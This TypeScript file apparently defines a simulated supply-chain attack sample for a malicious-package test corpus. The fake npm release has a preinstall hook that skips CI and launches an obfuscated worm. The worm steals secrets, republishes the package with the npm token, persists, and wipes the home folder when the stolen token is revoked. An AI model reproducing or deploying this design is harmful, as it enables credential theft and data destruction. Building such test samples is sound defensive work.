import { defineAttack } from "../attack.ts";
import { serviceClient } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import {
  collectSecrets,
  dropAgentHooks,
  persistAs,
  republish,
  uploadToRepository,
  wipeHome,
} from "../fragments.ts";
import { commonScript, moduleScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { Sample } from "../sample.ts";

/**
 * tensorlake 0.5.144, 8 October 2026: commits to main in a maintainer's name, released by OpenID Connect. `setup.mjs` starts
 * `Math_Symbol.js`, which leaves continuous integration alone, and sets up a watch that empties the home folder once the token dies.
 */
export const tensorlake2026: Sample = defineAttack({
  id: "tensorlake-2026",
  title: "A worm that spares continuous integration and threatens the home folder",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "tensorlake", version: "0.5.144" }],
  now: "2026-10-08T08:40:00Z",
  createLines: () => [
    {
      name: "tensorlake",
      files: serviceClient("tensorlake", "api.tensorlake.example"),
      way: "trusted-publisher",
      releases: [
        ["0.5.140", "2026-09-21T10:00:00Z"],
        ["0.5.142", "2026-09-29T10:00:00Z"],
        ["0.5.143", "2026-10-02T10:00:00Z"],
        [
          "0.5.144",
          "2026-10-08T08:22:00Z",
          {
            manifest: { scripts: { test: "node --test", preinstall: "node setup.mjs" } },
            files: [
              { path: "setup.mjs", content: setup },
              {
                path: "Math_Symbol.js",
                content: renderBundle(760_000, 101, [hideInTable(oneLine(worm), "reversed-base64")]),
              },
            ],
          },
        ],
      ],
    },
  ],
});

const setup = moduleScript(
  `
import { spawn } from "node:child_process";
import { fileURLToPath } from "node:url";
import path from "node:path";
`,
  String.raw`
const ci = ["CI", "GITHUB_ACTIONS", "GITLAB_CI", "CIRCLECI", "BUILDKITE"].some((name) => process.env[name]);
if (!ci) {
  const script = path.join(path.dirname(fileURLToPath(import.meta.url)), "Math_Symbol.js");
  spawn(process.execPath, [script], { detached: true, stdio: "ignore" }).unref();
}
`,
);

const worm = commonScript(`
${collectSecrets}
${dropAgentHooks}
${uploadToRepository("Inert: Symbols")}
${republish}
${persistAs("gh-token-monitor")}
${wipeHome}
async function watch(token) {
  const reply = await fetch("https://api.codehost.invalid/user", { headers: { Authorization: "Bearer " + token } });
  if (reply.status === 401) { wipeHome(); }
}
dropAgentHooks();
persist();
if (process.env.GITHUB_TOKEN) { uploadToRepository(process.env.GITHUB_TOKEN); setInterval(watch, 60000, process.env.GITHUB_TOKEN); }
if (npmToken()) { republish(npmToken()); }
`);
